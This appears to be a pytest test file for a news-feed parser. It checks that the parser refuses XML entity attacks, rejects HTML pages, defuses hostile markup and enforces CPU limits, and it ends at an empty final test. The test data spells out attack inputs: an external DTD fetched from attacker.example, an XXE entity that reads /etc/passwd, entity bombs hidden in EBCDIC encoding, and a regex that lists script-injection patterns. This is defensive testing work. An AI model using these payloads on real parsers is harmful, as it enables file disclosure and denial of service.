"""parse_feed on real feed files (tests/data/feeds/, see its README): refusals, recovery, normalisation."""

import re
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from digest.config import FetchSettings
from digest.defuse import ERROR_EMPTY, ERROR_ENTITIES, ERROR_HTML, MAX_PERSON_BYTES, trim_person_names
from digest.language import detect_language, normalise_language
from digest.models import EventInfo, Feed, ItemKind, Series
from digest.parse import (
    ParseResult,
    attendance,
    event_time,
    parse_feed,
)
from digest.parse_workers import ParseWorkers
from digest.sanitize import MAX_NAME_CHARS

FEEDS = Path(__file__).resolve().parent / "data" / "feeds"
SERIES = [
    Series("esa-security-defence", "European Strategic Autonomy series – Security & Defence"),
    Series("esa-economy-trade", "European Strategic Autonomy series – Economy & Trade",
           aliases=("European Strategic Autonomy – Economy & Trade",)),
    Series("esa-digital-technology", "European Strategic Autonomy series – Digital & Technology"),
]
CET = timezone(timedelta(hours=1))


def parse(name: str, kind: str = "brief", language: str | None = None, body: bytes | None = None) -> ParseResult:
    data = body if body is not None else (FEEDS / name).read_bytes()
    return parse_feed(data, Feed(name=name, url=f"https://feeds.example.net/{name}", kind=ItemKind(kind),
                                 language=language), SERIES)


def by_key(result: ParseResult) -> dict:
    return {item.key: item for item in result.items}


def rss(items: str, channel: str = "<link>https://www.example.org/</link>") -> bytes:
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title>{channel}'
            f"{items}</channel></rss>").encode()


# --- refusals and errors --------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["billion-laughs.xml", "external-entity.xml"])
def test_entity_declarations_are_refused(name):
    result = parse(name)
    assert result == ParseResult([], [], ERROR_ENTITIES)
    assert "declares entities" in result.error


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><rss/>',
    b'<!DOCTYPE rss [<!ENTITY logo SYSTEM "logo.gif" NDATA gif>]><rss version="2.0"/>',
    b'<?xml version="1.0"?><!-- ' + b"x" * 200_000 + b' --><!DOCTYPE r [<!ENTITY a "b">]><rss/>',
    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "&#38;a;">]><rss/>'.encode("utf-16"),
    # expat cannot read this prologue (unknown encoding): any <!ENTITY in the bytes is enough
    b'<?xml version="1.0" encoding="x-unknown-enc"?><!DOCTYPE r [<!entity a "b">]><rss/>',
    # EBCDIC: expat cannot read it, and no ASCII "<!ENTITY" is in the bytes; feedparser would expand it
    ('<?xml version="1.0" encoding="cp037"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
     '<rss version="2.0"><channel><title>&b;</title><item><title>x</title><link>https://e.org/</link></item>'
     "</channel></rss>").encode("cp037"),
    ('<?xml version="1.0" encoding="cp037"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     '<rss version="2.0"><channel><title>&xxe;</title></channel></rss>').encode("cp037"),
])
def test_entity_declarations_are_refused_in_every_disguise(body):
    assert parse("inline", body=body).error == ERROR_ENTITIES


def test_entity_text_inside_content_is_not_a_declaration():
    body = rss("<item><title>XML security</title><link>https://www.example.org/xml</link>"
               "<description><![CDATA[<p>Never accept <code><!ENTITY lol \"lol\"></code> in feeds.</p>]]></description></item>")
    result = parse("inline", body=body)
    assert result.error is None and len(result.items) == 1


def test_a_doctype_without_entities_is_fine():
    body = (b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>Old</title>'
            b"<link>https://old.example.org/</link><item><title>One</title><link>https://old.example.org/1</link></item>"
            b"</channel></rss>")
    result = parse("inline", body=body)
    assert result.error is None and [i.url for i in result.items] == ["https://old.example.org/1"]


@pytest.mark.parametrize("body", [
    None,  # html-page.html
    b"<!DOCTYPE html><html><head><title>x</title></head><body></body></html>",
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>',
    b"\xef\xbb\xbf<!-- cms --><HTML><BODY>Moved</BODY></HTML>",
    b"  <head><meta charset=utf-8><title>Login</title></head><body><form></form>",
])
def test_html_pages_are_not_feeds(body):
    assert parse("html-page.html", body=body).error == ERROR_HTML


@pytest.mark.parametrize("body", [b"", b"  \r\n\t "])
def test_an_empty_body_is_an_error(body):
    assert parse("empty.xml", body=body or None).error == ERROR_EMPTY


@pytest.mark.parametrize("body", [b"/etc/passwd", b"https://www.example.org/feed/", b'{"items": []}', b"hello"])
def test_bytes_that_are_no_feed_are_an_error_and_never_opened_as_a_path_or_url(body):
    result = parse("inline", body=body)
    assert result.items == [] and result.error.startswith("not a feed")
    assert "root:" not in result.error


def test_an_ebcdic_feed_without_entities_is_read():
    body = ('<?xml version="1.0" encoding="cp037"?><rss version="2.0"><channel><title>EBCDIC</title>'
            "<link>https://e.org/</link><item><title>One</title><link>https://e.org/1</link></item></channel></rss>")
    result = parse("inline", body=body.encode("cp037"))
    assert result.error is None and [i.url for i in result.items] == ["https://e.org/1"]


def test_a_body_that_names_a_real_feed_file_is_not_read_from_disk(tmp_path):
    # Given a path (str or bytes) instead of a stream, feedparser would open the file and read its item.
    path = tmp_path / "feed.xml"
    path.write_bytes(rss("<item><title>From disk</title><link>https://www.example.org/disk</link></item>"))
    result = parse("inline", body=str(path).encode())
    assert result.items == [] and result.error.startswith("not a feed")


def test_a_feed_without_items_is_fine():
    result = parse("empty-channel.xml")
    assert result == ParseResult([], [], None, "Podcast – Europa Progressiva Foundation",
                                 encoding="utf-8, declared in the document")


# --- recovery -------------------------------------------------------------------------------------
def test_malformed_xml_is_recovered_with_a_warning():
    result = parse("malformed.xml")
    assert result.error is None
    assert [i.title for i in result.items] == ["Trade & tariffs: the week in review",
                                               "Second post survives the broken first one"]
    assert len(result.warnings) == 1 and result.warnings[0].startswith("malformed feed, recovered 2 item(s)")
    assert "&amp;" in result.items[0].summary_html  # the bare ampersand, escaped


def test_windows_1252_declared_as_utf8_is_read_with_a_warning():
    result = parse("windows-1252-declared-utf8.xml")
    assert result.error is None
    assert result.items[0].title == "L’Europe sociale : « un chantier inachevé »"
    assert "5 € par habitant" in result.items[0].summary_html
    assert result.warnings and result.warnings[0].startswith("wrong character encoding")
    assert result.items[0].language == "fr"  # channel <language>fr-BE</language>


# --- WordPress RSS --------------------------------------------------------------------------------
def test_wordpress_items_are_normalised():
    result = parse("wordpress-rss.xml")
    assert result.error is None and result.title == "Publications – Europa Progressiva Foundation"
    items = by_key(result)
    assert list(items) == ["https://www.example.org/?p=48237", "https://www.example.org/?p=48201",
                           "https://www.example.org/?p=48190"]
    brief = items["https://www.example.org/?p=48237"]
    assert brief.kind is ItemKind.BRIEF and brief.feed == "wordpress-rss.xml"
    assert brief.url == "https://www.example.org/publications/rearming-europe-without-the-us/"
    # Its guid repeats in entry 4, dated an hour earlier: one item, published at the earlier time.
    assert brief.published == datetime(2026, 11, 18, 8, 0, tzinfo=UTC)
    assert brief.authors == ("Maria Keller", "Jean-Luc Moreau")
    assert brief.categories == ("European Strategic Autonomy series – Security & Defence", "Policy Brief", "NATO")
    assert brief.series == ("esa-security-defence",)
    assert brief.language == "en"


def test_wordpress_content_is_sanitised_and_relative_links_use_the_channel_link():
    brief = by_key(parse("wordpress-rss.xml"))["https://www.example.org/?p=48237"]
    assert 'src="https://www.example.org/wp-content/uploads/2026/11/procurement-chart.png"' in brief.content_html
    assert "style=" not in brief.content_html and "class=" not in brief.content_html
    assert "<h2>Three options</h2>" in brief.content_html
    # The excerpt's "Continue reading" more-link is boilerplate (digest.clean_text), kept in `raw`.
    assert 'href="https://www.example.org/publications/rearming-europe-without-the-us/"' in dict(brief.raw)["summary_html"]
    assert brief.summary_html.endswith("a common procurement budget…</p>")
    assert "&#8230;" not in brief.summary_html
    study = by_key(parse("wordpress-rss.xml"))["https://www.example.org/?p=48201"]
    assert 'href="https://www.example.org/digital-sovereignty-index/"' in study.content_html


def test_an_item_in_several_series_and_one_in_none():
    items = by_key(parse("wordpress-rss.xml"))
    assert items["https://www.example.org/?p=48201"].series == ("esa-economy-trade", "esa-digital-technology")
    commentary = items["https://www.example.org/?p=48190"]
    assert commentary.categories == ("Security & Defence", "Commentary") and commentary.series == ()


def test_a_link_that_is_markup_is_dropped_and_a_title_that_is_markup_gives_way_to_the_summary():
    """Joined to the channel link, "<a href=…>Register</a>" used to pass for a relative URL (issue 15)."""
    result = parse("links-not-urls.xml")
    items = by_key(result)
    launch = items["https://www.example.org/?p=51002"]
    assert launch.url == "" and launch.title == "Book launch: Europe after the Zeitenwende"
    assert result.warnings == ["entry 1 ('Book launch: Europe after the Zeitenwende') has no usable http(s) link"]
    forum = items["https://www.example.org/?p=51003"]
    assert forum.url == "https://www.example.org/events/vienna-forum/"
    assert forum.title.startswith("Vienna Progressive Forum: Europe's economy between Washington and Beijing.")


def test_the_same_key_twice_is_one_item_the_first_wins_and_it_is_a_note_not_a_warning():
    """WordPress repeats sticky posts every week: nothing staff can act on, so the feed stays ok (issue 15)."""
    result = parse("wordpress-rss.xml")
    repeated = [i for i in result.items if i.key == "https://www.example.org/?p=48237"]
    assert len(repeated) == 1 and "27 national markets" in repeated[0].summary_html
    assert result.warnings == []
    assert result.notes == ["entry 4 repeats the key 'https://www.example.org/?p=48237'; kept the first"]


# --- events ---------------------------------------------------------------------------------------
def events() -> dict:
    return {i.title: i for i in parse("events-mod-event.xml", kind="event").items}


def test_mod_event_fields_become_event_info():
    debate = events()["Strategic autonomy in defence: who pays?"]
    assert debate.kind is ItemKind.EVENT
    assert debate.event == EventInfo(
        start=datetime(2026, 12, 3, 18, 30, tzinfo=CET), end=datetime(2026, 12, 3, 20, 0, tzinfo=CET),
        location="HQ Brussels", organizer="Europa Progressiva Foundation", type="debate",
        online=False, hybrid=True)  # "(Hybrid)" only repeated the mode (digest.clean_text)
    assert dict(debate.raw)["event.location"] == "HQ Brussels (Hybrid)"
    assert debate.series == ("esa-security-defence",)  # "&amp;amp;" left in the category text


def test_event_times_without_offset_take_the_items_pubdate_offset():
    webinar = events()["Webinar: Europe's digital public infrastructure"]
    assert webinar.event.start == datetime(2026, 12, 10, 11, 0, tzinfo=UTC)
    assert webinar.event.start.utcoffset() == timedelta(hours=1)
    assert webinar.event.online and not webinar.event.hybrid


def test_event_bare_dates_rfc822_dates_and_missing_fields():
    items = events()
    forum = items["Wiener Forum: Europas Wirtschaft zwischen Washington und Peking"].event
    assert forum.start == datetime(2027, 1, 14, tzinfo=UTC) and forum.hybrid and not forum.online
    assert forum.organizer == "Europa Progressiva Foundation; Renner-Institut"
    french = items["Rencontre : l’Europe sociale après 2027"].event
    assert french.online and french.end is None
    launch = items["Book launch: “The Sovereign Union”"].event
    assert launch.start == datetime(2026, 11, 12, 17, 0, tzinfo=UTC) and not launch.online and not launch.hybrid
    assert items["Save the date: Annual Progressive Forum 2027"].event == EventInfo()


def test_the_event_module_is_found_whatever_its_prefix():
    body = (b'<?xml version="1.0"?><rss version="2.0" xmlns:event="http://purl.org/rss/1.0/modules/event/"><channel>'
            b"<title>E</title><link>https://www.example.org/</link><item><title>Forum</title>"
            b"<link>https://www.example.org/e/1</link><event:startdate>2026-12-01T10:00:00+01:00</event:startdate>"
            b"<event:location>Online</event:location></item></channel></rss>")
    event = parse("inline", kind="event", body=body).items[0].event
    assert event.start == datetime(2026, 12, 1, 9, 0, tzinfo=UTC) and event.online


@pytest.mark.parametrize("location, event_type, categories, expected", [
    ("HQ Brussels (Hybrid)", "", (), (True, False)),
    ("HQ Brussels", "Conference", ("Hybrid",), (True, False)),
    ("Online", "", (), (False, True)),
    ("", "Webinar", (), (False, True)),
    ("Zoom", "", (), (False, True)),
    ("", "Online-Veranstaltung", (), (False, True)),
    ("Wien", "Forum", ("Hybrid-Veranstaltung",), (True, False)),
    ("Vor Ort und online", "", (), (True, False)),
    ("En ligne", "", (), (False, True)),
    ("Bruxelles", "Conférence hybride", (), (True, False)),
    ("", "Webinaire", (), (False, True)),
    ("Haus der EU, Wien", "Präsenzveranstaltung", ("Forum",), (False, False)),
    ("Madrid", "Book launch", (), (False, False)),
])
def test_attendance(location, event_type, categories, expected):
    assert attendance(location, event_type, categories) == expected


@pytest.mark.parametrize("raw, offset, expected", [
    ("2026-12-03T18:30:00+01:00", None, datetime(2026, 12, 3, 17, 30, tzinfo=UTC)),
    ("2026-12-03T17:30:00Z", None, datetime(2026, 12, 3, 17, 30, tzinfo=UTC)),
    ("2026-12-03T18:30", CET, datetime(2026, 12, 3, 17, 30, tzinfo=UTC)),
    ("2026-12-03T18:30", None, datetime(2026, 12, 3, 18, 30, tzinfo=UTC)),
    ("2026-12-03", CET, datetime(2026, 12, 3, tzinfo=UTC)),
    ("Thu, 03 Dec 2026 18:30:00 +0100", None, datetime(2026, 12, 3, 17, 30, tzinfo=UTC)),
    ("next Tuesday", None, None),
    ("", None, None),
    (None, None, None),
])
def test_event_time(raw, offset, expected):
    value = event_time(raw, offset)
    assert value == expected
    assert value is None or value.tzinfo is not None


# --- media ----------------------------------------------------------------------------------------
def media(language: str | None = None) -> ParseResult:
    return parse("google-alerts.xml", kind="media", language=language)


def test_google_alerts_are_unwrapped_and_keyed_by_the_real_url():
    result = media()
    assert result.error is None and result.warnings == []
    apa = by_key(result)["https://apa.at/news/eu-soll-gemeinsam-ruestung-einkaufen/"]
    assert apa.kind is ItemKind.MEDIA and apa.url == apa.key
    assert apa.media.source_url.startswith("https://www.google.com/url?rct=j&sa=t&url=https://apa.at/")
    assert apa.title == "Europa Progressiva: EU soll gemeinsam Rüstung einkaufen"
    assert "<b>Europa Progressiva</b>" in apa.summary_html


def test_two_alerts_for_one_article_are_one_mention():
    urls = [i.url for i in media().items]
    assert urls.count("https://apa.at/news/eu-soll-gemeinsam-ruestung-einkaufen/") == 1
    assert len(urls) == 5


def test_two_alerts_for_one_article_keep_the_earliest_alerts_time_whatever_their_order():
    result = parse("google-alerts-next-day.xml", kind="media")
    lesoir = by_key(result)["https://www.lesoir.be/612999/article/2026-11-21/budget-commun-de-defense-le-debat-continue"]
    assert lesoir.title == "Le Soir revient sur la proposition de Europa Progressiva"  # the first entry's text
    assert lesoir.published == datetime(2026, 11, 20, 22, 40, tzinfo=UTC)  # the later entry's earlier time
    assert result.warnings == [] and result.notes == []  # repeated alerts are normal


def test_the_target_is_percent_decoded_once():
    euractiv = [i for i in media().items if "euractiv" in i.url][0]
    assert euractiv.url == ("https://www.euractiv.com/section/defence/news/"
                            "think-tank-urges-joint-eu-defence-procurement-budget/?utm_source=rss&lang=en")


def test_unknown_redirectors_and_unsafe_targets_are_left_alone():
    urls = {i.title: i.url for i in media().items}
    assert urls["Progressive foundation hosts Vienna forum on trade"].startswith("https://news.example.net/redirect?")
    assert urls["Suspicious alert"].startswith("https://www.google.com/url?")


def test_outlet_from_author_then_source_then_host():
    outlets = {i.url.split("/")[2]: i.media.outlet for i in media().items}
    assert outlets["www.euractiv.com"] == "Euractiv"
    assert outlets["news.example.net"] == "News Aggregator Example"
    assert outlets["apa.at"] == "apa.at"
    assert outlets["www.lesoir.be"] == "lesoir.be"


def test_mention_languages_are_detected_when_not_stated():
    languages = {i.url.split("/")[2]: i.language for i in media().items}
    assert languages["apa.at"] == "de"
    assert languages["www.lesoir.be"] == "fr"
    assert languages["www.euractiv.com"] == "en"


def test_the_feed_configs_language_wins():
    assert {i.language for i in media(language="de-AT").items} == {"de"}


# --- Atom with xml:base ---------------------------------------------------------------------------
def atom() -> dict:
    return {i.title: i for i in parse("atom-xml-base.xml", kind="news").items}


def test_atom_links_resolve_against_xml_base():
    items = atom()
    director = items["New Director for Economic Policy appointed"]
    assert director.url == "https://www.example.org/news/2026/11/new-director-economic-policy/"
    assert 'href="https://www.example.org/news/2026/11/ana-ribeiro-cv.pdf"' in director.summary_html
    assert 'src="https://cdn.example.org/press/ribeiro.jpg"' in director.content_html
    assert 'href="https://cdn.example.org/contact/"' in director.content_html
    assert items["Office closed for the holidays"].url == "https://www.example.org/news/holiday-closure/"
    assert items["Communiqué : l’autonomie stratégique au Parlement"].url == (
        "https://www.example.org/fr/actualites/autonomie-strategique-parlement/")


def test_atom_updated_only_dates_and_bare_dates():
    items = atom()
    assert items["New Director for Economic Policy appointed"].published == datetime(2026, 11, 19, 10, 30, tzinfo=UTC)
    assert items["Office closed for the holidays"].published == datetime(2026, 11, 16, tzinfo=UTC)
    assert all(i.published.tzinfo is not None and i.updated == i.published for i in items.values())


def test_atom_authors_categories_language_and_text_summaries():
    items = atom()
    director = items["New Director for Economic Policy appointed"]
    assert director.authors == ("Press Office", "Clara Jansen")
    assert director.categories == ("European Strategic Autonomy – Economy & Trade", "Team")
    assert director.series == ("esa-economy-trade",)  # via the alias
    assert director.language == "en"
    assert items["Communiqué : l’autonomie stratégique au Parlement"].language == "fr"  # entry xml:lang
    assert items["Office closed for the holidays"].summary_html == (
        "Our Brussels office is closed from 24 December to 2 January &amp; reopens on 4 January.")


def test_relative_links_never_use_the_fetch_url():
    body = rss("<item><title>Relative</title><link>/posts/1</link><guid>g1</guid>"
               '<description>&lt;a href="/x"&gt;x&lt;/a&gt;</description></item>', channel="")
    result = parse_feed(body, Feed("f", "https://feeds.example.net/f", ItemKind.NEWS), [],
                        content_location="https://cdn.example.net/feeds/f.xml")
    item = result.items[0]
    assert item.url == "" and "href" not in item.summary_html
    assert "cdn.example.net" not in repr(result)
    assert result.warnings == ["entry 1 ('Relative') has no usable http(s) link"]


# --- RSS 1.0 --------------------------------------------------------------------------------------
def test_rss1_dc_date_subject_creator_and_language():
    items = {i.title: i for i in parse("rss1-rdf.rdf", kind="article").items}
    interview = items["“Sovereignty is not autarky”: an interview on Europe's cloud"]
    assert interview.kind is ItemKind.ARTICLE
    assert interview.key == "https://magazine.example.org/2026/11/digital-sovereignty-interview/"
    assert interview.published == datetime(2026, 11, 19, 7, 0, tzinfo=UTC)
    assert interview.authors == ("Lena Fischer",)
    assert interview.categories == ("European Strategic Autonomy series — Digital & Technology", "Interview")
    assert interview.series == ("esa-digital-technology",)
    assert items["The return of tariffs"].series == ("esa-economy-trade",)
    assert items["The return of tariffs"].published == datetime(2026, 11, 17, tzinfo=UTC)
    assert items["Die Wohnungskrise ist eine europäische Frage"].language == "de"  # dc:language on the item
    assert interview.language == "en"  # channel dc:language


# --- hostile input --------------------------------------------------------------------------------
FORBIDDEN = re.compile(r"<script|javascript:|vbscript:|data:|onerror|onclick|onload|onmouseover|<form|<input|<svg|"
                       r"<iframe|<object|<embed|<math|<style|style=|<meta|<base|<link|alert\(", re.I)


@pytest.mark.parametrize("strict_xml", [False, True], ids=["recovered", "well-formed"])
def test_hostile_feed_is_defused(strict_xml):
    body = (FEEDS / "hostile.xml").read_bytes()
    if strict_xml:  # without the NUL byte expat reads it; with it, feedparser's lenient parser does
        body = body.replace(b"\x00", b"")
    result = parse("hostile.xml", body=body)
    assert result.error is None and len(result.items) == 2
    assert result.title == "Hostile Feed"
    first, second = result.items
    for item in result.items:
        assert not FORBIDDEN.search(item.summary_html + item.content_html), item.summary_html + item.content_html
        assert not re.search(r"[\x00-\x1f\x7f<>]", item.title)
        assert all(not re.search(r"[\x00-\x1f\x7f]", a) for a in item.authors)
    assert first.title.startswith("Breaking Bcc: victim@example.com") and first.title.endswith("news now")
    assert first.categories == ("Security",)
    assert 'href="https://www.example.org/ok"' in first.summary_html and "safe link" in first.summary_html
    assert "Kept text." in first.content_html and "styled paragraph" in first.content_html
    assert second.url == "" and any("no usable http(s) link" in w for w in result.warnings)


# --- keys -----------------------------------------------------------------------------------------
def test_key_falls_back_to_link_then_to_a_stable_hash():
    body = rss("<item><title>Linked</title><link>https://www.example.org/a</link></item>"
               "<item><title>Neither</title><pubDate>Wed, 18 Nov 2026 10:00:00 +0000</pubDate></item>"
               f"<item><title>Long</title><guid>{'x' * 3000}</guid><link>https://www.example.org/l</link></item>")
    first = parse("inline", body=body)
    keys = [i.key for i in first.items]
    assert keys[0] == "https://www.example.org/a"
    assert keys[1].startswith("content:") and keys[2].startswith("sha256:") and len(keys[2]) < 100
    assert [i.key for i in parse("inline", body=body).items] == keys


def test_unparseable_dates_are_none_not_errors():
    body = rss("<item><title>Odd</title><link>https://www.example.org/o</link><pubDate>someday</pubDate></item>")
    item = parse("inline", body=body).items[0]
    assert item.published is None and item.updated is None


def test_an_overflowing_date_offset_costs_the_date_not_the_event():
    overflow = "Sat, 01 Jan 2026 00:00:00 +2359999999999999999999999"  # OverflowError in parsedate_to_datetime
    body = rss(f"<item><title>Odd</title><link>https://www.example.org/o</link><pubDate>{overflow}</pubDate>"
               f"<ev:startdate xmlns:ev='http://purl.org/rss/1.0/modules/event/'>{overflow}</ev:startdate></item>")
    result = parse("inline", kind="event", body=body)
    assert result.warnings == [] and result.items[0].event.start is None


def test_a_long_non_ascii_guid_is_hashed_by_its_utf8_size():
    guid = "中" * 1990  # 1,990 characters, 5,970 bytes: over PostgreSQL's index row limit
    body = rss(f"<item><title>CJK</title><link>https://www.example.org/cjk</link><guid>{guid}</guid></item>"
               f"<item><title>Short</title><link>https://www.example.org/s</link><guid>{'中' * 600}</guid></item>")
    long_key, short_key = [i.key for i in parse("inline", body=body).items]
    assert long_key.startswith("sha256:") and short_key == "中" * 600
    assert len(long_key.encode()) < 100


def test_skipped_entry_n_names_the_entry_and_keeps_the_others(monkeypatch):
    # No known input still breaks normalisation; simulate a bug in one entry's series matching.
    from digest import parse as parse_module

    real = parse_module.match_series

    def match_series(terms, series):
        if "boom" in terms:
            raise RuntimeError("a bug in series matching")
        return real(terms, series)

    monkeypatch.setattr(parse_module, "match_series", match_series)
    body = rss("".join(f"<item><title>T{n}</title><link>https://www.example.org/{n}</link><category>{c}</category></item>"
                       for n, c in enumerate(["ok", "boom", "ok"], start=1)))
    result = parse("inline", body=body)
    assert [i.title for i in result.items] == ["T1", "T3"]
    assert result.warnings == ["skipped entry 2: RuntimeError: a bug in series matching"]


# --- URLs urllib cannot read, and characters XML refuses ------------------------------------------
def test_an_unreadable_channel_link_costs_the_base_not_the_feed():
    body = rss("<item><title>Kept</title><link>https://www.example.org/k</link>"
               '<description>&lt;a href="/rel"&gt;r&lt;/a&gt;</description></item>', channel="<link>http://[::1</link>")
    result = parse("inline", body=body)
    assert result.error is None and [i.url for i in result.items] == ["https://www.example.org/k"]
    assert "href" not in result.items[0].summary_html  # no usable base for the relative link


def test_an_unreadable_item_link_costs_the_link_not_the_item():
    body = rss("<item><title>No link</title><link>http://[::1</link><guid>g1</guid></item>"
               "<item><title>Fine</title><link>https://www.example.org/f</link></item>")
    result = parse("inline", body=body)
    assert [(i.title, i.url) for i in result.items] == [("No link", ""), ("Fine", "https://www.example.org/f")]
    assert result.warnings == ["entry 1 ('No link') has no usable http(s) link"]


def test_an_unreadable_link_in_content_is_dropped_quietly(monkeypatch):
    unraisable = []  # what nh3's URL callback raises goes to sys.unraisablehook (a printed traceback)
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    body = rss("<item><title>T</title><link>https://www.example.org/t</link>"
               '<description>&lt;a href="//[::1/x"&gt;bad&lt;/a&gt; &lt;a href="/ok"&gt;ok&lt;/a&gt;</description></item>')
    item = parse("inline", body=body).items[0]
    assert re.findall(r'href="([^"]*)"', item.summary_html) == ["https://www.example.org/ok"]
    assert unraisable == []


def test_xml_invalid_and_invisible_characters_never_reach_an_item():
    body = rss("<item><title>Odd &#xFFFF; title ‮&#x2066;</title><link>https://www.example.org/a&#xFFFF;b</link>"
               "<author>Ann &#xFFFE;Author</author><category>Cat&#xFDD0;</category>"
               "<description>x &#xFFFF; y &amp;#xFFFE; &amp;#x1; z</description></item>")
    item = parse("inline", body=body).items[0]
    assert item.title == "Odd title" and item.url == "https://www.example.org/ab"
    assert item.authors == ("Ann Author",) and item.categories == ("Cat",)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", item.summary_html)


def test_references_to_surrogates_and_beyond_unicode_cost_a_character_not_the_feed():
    # feedparser itself fails on a lone surrogate: without the pre-pass the whole feed is lost.
    body = rss("<item><title>Bad &#xD800; one</title><link>https://www.example.org/1</link></item>"
               "<item><title>Also &#55296;&#x110000;&#0; bad</title><link>https://www.example.org/2</link>"
               "<description>&#xDFFF; &#8211; kept</description></item>")
    result = parse("inline", body=body)
    assert result.error is None
    first, second = sorted(result.items, key=lambda item: item.url)
    assert "Bad" in first.title and "one" in first.title and "\ud800" not in first.title
    assert "Also" in second.title and "\u2013 kept" in second.summary_html
    assert not re.search("[\ud800-\udfff]", first.title + second.title + second.summary_html)


@pytest.mark.parametrize("reference", [
    "&#x" + "0" * 20 + "D800;", "&#" + "0" * 20 + "55296;", "&#x" + "F" * 17 + ";", "&#" + "9" * 21 + ";",
    "&#x0000000000000000000000000110000;", "&#000000000000000000000000;",
])
def test_padded_or_huge_references_cost_a_character_not_the_feed(reference):
    body = rss(f"<item><title>Bad {reference} one</title><link>https://www.example.org/1</link></item>"
               "<item><title>Fine &#x00000041; &#0000000065;</title><link>https://www.example.org/2</link></item>")
    result = parse("inline", body=body)
    assert result.error is None, result.error
    bad, fine = sorted(result.items, key=lambda item: item.url)
    assert "Bad" in bad.title and "one" in bad.title and not re.search("[\ud800-\udfff]", bad.title)
    assert fine.title == "Fine A A"


# --- language detection ---------------------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("Die EU muss ihre Verteidigung stärken, sagt die Stiftung in einer neuen Studie.", "de"),
    ("La fondation plaide pour une autonomie stratégique européenne dans la défense.", "fr"),
    ("The foundation calls for a common European defence procurement budget.", "en"),
    ("Hybrid", None),
    ("Strategic autonomy", None),
    ("", None),
    ("1234 5678 !!! ---- 2026-11-18", None),
])
def test_detect_language(text, expected):
    assert detect_language(text) == expected


@pytest.mark.parametrize("value, expected", [
    ("en-GB", "en"), ("de_AT", "de"), ("FR", "fr"), (" nl ", "nl"), ("", None), (None, None), ("english", None),
    ("x-klingon", None),
])
def test_normalise_language(value, expected):
    assert normalise_language(value) == expected


# --- the CPU-time limit (real worker processes) ---------------------------------------------------
FEED = Feed("f", "https://feeds.example.net/f", ItemKind.BRIEF)


def many_long_authors(items: int = 3000) -> bytes:
    """A feed feedparser still parses slowly once every author is trimmed: many 1 KB author strings (~3 ms each)."""
    return rss("".join(f"<item><title>{n}</title><link>https://www.example.org/{n}</link><author>{'a' * 1024}</author></item>"
                       for n in range(items)))


def test_the_slow_author_fixture_parses_with_the_default_cpu_limit():
    """The 60 KB author is cut before feedparser reads it: its quadratic e-mail regex never sees 60 KB."""
    body = (FEEDS / "hostile-slow-author.xml").read_bytes()
    with ParseWorkers(FetchSettings().parse_cpu_seconds) as workers:
        result = workers.parse(body, FEED, SERIES)
    assert (result.error, result.warnings) == (None, [])
    (item,) = result.items
    assert item.title == "Innocent title" and item.url == "https://attacker.example/slow/1"
    assert item.authors == ("a" * (MAX_NAME_CHARS - 1) + "…",)
    assert len(trim_person_names(body)) < MAX_PERSON_BYTES + 1000  # feedparser reads 1 KB of the 60 KB
    # Untrimmed, this feed costs ~13 s of CPU; trimmed, milliseconds: the smallest limit is plenty.
    with ParseWorkers(cpu_seconds=1) as workers:
        assert workers.parse(body, FEED, SERIES) == result


@pytest.mark.parametrize("element, text, expected", [
    ("author", "b" * 1020 + "&amp;" + "c" * 2000, "b" * 1020),  # never cut inside an entity
    ("dc:creator", "<![CDATA[" + "d" * 3000 + "]]>", "d" * MAX_PERSON_BYTES),
    ("managingEditor", "e" * (MAX_PERSON_BYTES - 1) + "é" * 100, "e" * (MAX_PERSON_BYTES - 1)),  # never inside a character
    ("itunes:author", "中" * 2000, "中" * 2000),  # no ASCII run: nothing to fear, nothing cut
])
def test_long_person_names_are_cut_before_feedparser_without_breaking_the_document(element, text, expected):
    body = rss(f'<item><title>T</title><link>https://www.example.org/t</link><{element}>{text}</{element}></item>')
    body = body.replace(b"<rss ", b'<rss xmlns:dc="http://purl.org/dc/elements/1.1/" '
                                  b'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" ')
    trimmed = trim_person_names(body)
    assert f"<{element}>{expected}</{element}>".encode() in trimmed.replace(b"<![CDATA[", b"").replace(b"]]>", b"")
    result = parse("inline", body=body)
    assert (result.error, result.warnings, len(result.items)) == (None, [], 1)


def test_short_names_and_other_long_text_are_left_alone():
    body = rss("<item><title>" + "t" * 5000 + "</title><link>https://www.example.org/t</link><author>Ann</author>"
               "<description>" + "x" * 5000 + "</description><name/>" + "y" * 3000 + "</item>")
    assert trim_person_names(body) == body


@pytest.mark.slow
def test_a_pathological_feed_is_abandoned_at_the_cpu_limit_and_the_next_feed_parses():
    body = (FEEDS / "wordpress-rss.xml").read_bytes()
    with ParseWorkers(cpu_seconds=1, workers=1) as workers:
        slow = workers.parse(many_long_authors(), FEED, SERIES)
        assert slow.items == [] and "more than 1 s of CPU time" in slow.error
        assert workers.parse(body, FEED, SERIES) == parse_feed(body, FEED, SERIES)


@pytest.mark.slow
def test_limited_parses_from_several_threads_agree_with_inline_parses():
    names = ["wordpress-rss.xml", "events-mod-event.xml", "atom-xml-base.xml", "rss1-rdf.rdf", "malformed.xml",
             "billion-laughs.xml", "html-page.html"]
    bodies = [(FEEDS / n).read_bytes() for n in names]
    with ParseWorkers(cpu_seconds=10) as workers, ThreadPoolExecutor(4) as pool:
        limited = list(pool.map(lambda b: workers.parse(b, FEED, SERIES), bodies))
    assert limited == [parse_feed(b, FEED, SERIES) for b in bodies]


def test_no_limit_parses_inline():
